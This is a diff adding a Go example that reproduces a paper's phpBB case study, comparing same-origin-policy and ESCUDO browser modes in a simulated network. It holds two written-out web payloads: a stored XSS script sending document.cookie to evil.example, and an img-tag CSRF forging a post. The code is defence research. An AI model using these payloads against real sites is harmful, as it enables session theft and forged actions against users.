@@ -1,0 +1,104 @@
+// The forum example drives the phpBB case study (paper §6.2, Table 3)
+// end to end through the public API: a user logs in through the real
+// login form, posts a topic and a reply, and then the example replays
+// two of the §6.4 attacks — a cookie-stealing XSS reply and an img-tag
+// CSRF from a malicious site — under both browser modes, printing the
+// verdicts.
+//
+// Run with:
+//
+//	go run ./examples/forum
+package main
+
+import (
+	"fmt"
+	"net/url"
+	"strconv"
+	"strings"
+
+	escudo "repro"
+
+	"repro/internal/apps/phpbb"
+	"repro/internal/browser"
+	"repro/internal/nonce"
+	"repro/internal/origin"
+	"repro/internal/web"
+)
+
+func main() {
+	for _, mode := range []escudo.BrowserMode{escudo.ModeSOP, escudo.ModeEscudo} {
+		fmt.Printf("=== phpBB under a %s browser ===\n\n", strings.ToUpper(mode.String()))
+		run(mode)
+		fmt.Println()
+	}
+}
+
+func run(mode escudo.BrowserMode) {
+	forumOrigin := origin.MustParse("http://forum.example")
+	evilOrigin := origin.MustParse("http://evil.example")
+
+	// The unhardened forum (input validation and CSRF tokens removed,
+	// §6.4) with the Table 3 ESCUDO configuration.
+	forum := phpbb.New(phpbb.Config{
+		Origin: forumOrigin, Hardened: false, Escudo: true, Nonces: nonce.NewSeqSource(1),
+	})
+	forum.AddUser("alice", "alicepw")
+	forum.AddUser("mallory", "mallorypw")
+
+	net := web.NewNetwork()
+	net.Register(forumOrigin, forum)
+	net.Register(evilOrigin, web.HandlerFunc(func(req *web.Request) *web.Response {
+		return web.HTML(`<html><body><p>cat pictures</p>` +
+			`<img src="http://forum.example/quickpost?subject=CSRF-SPAM&message=pwned"></body></html>`)
+	}))
+
+	b := browser.New(net, browser.Options{Mode: mode})
+
+	// --- Normal use: login, post, reply. -------------------------
+	p := mustNavigate(b, forumOrigin.URL("/"))
+	mustSubmit(p, "loginform", url.Values{"username": {"alice"}, "password": {"alicepw"}})
+	p = mustNavigate(b, forumOrigin.URL("/"))
+	mustSubmit(p, "newtopic", url.Values{"subject": {"Welcome"}, "message": {"First!"}})
+	topicID := forum.Topics()[0].ID
+	tp := mustNavigate(b, forumOrigin.URL("/viewtopic?t="+strconv.Itoa(topicID)))
+	mustSubmit(tp, "replyform", url.Values{"message": {"Nice thread."}})
+	topic, _ := forum.TopicByID(topicID)
+	fmt.Printf("  normal use: topic %d by %s with %d reply — works in both modes\n",
+		topic.ID, topic.Author, len(topic.Replies))
+
+	// --- Attack 1: XSS cookie theft via a hostile reply. ---------
+	forum.SeedReply(topicID, "mallory",
+		`<script>var i = new Image(); i.src = "http://evil.example/steal?c=" + encodeURIComponent(document.cookie);</script>`)
+	mustNavigate(b, forumOrigin.URL("/viewtopic?t="+strconv.Itoa(topicID)))
+	stolen := false
+	for _, e := range net.FindRequests(evilOrigin, nil) {
+		if strings.Contains(e.URL, "phpbb2mysql_sid") {
+			stolen = true
+		}
+	}
+	fmt.Printf("  XSS cookie theft: session cookie stolen = %v\n", stolen)
+
+	// --- Attack 2: CSRF via an img on the malicious site. --------
+	before := len(forum.Topics())
+	mustNavigate(b, evilOrigin.URL("/"))
+	forged := len(forum.Topics()) > before
+	fmt.Printf("  CSRF forged post: attack succeeded = %v\n", forged)
+}
+
+func mustNavigate(b *browser.Browser, u string) *browser.Page {
+	p, err := b.Navigate(u)
+	if err != nil {
+		panic(err)
+	}
+	return p
+}
+
+func mustSubmit(p *browser.Page, formID string, fields url.Values) {
+	form := p.Doc.ByID(formID)
+	if form == nil {
+		panic("missing form " + formID)
+	}
+	if _, err := p.SubmitForm(form, fields); err != nil {
+		panic(err)
+	}
+}
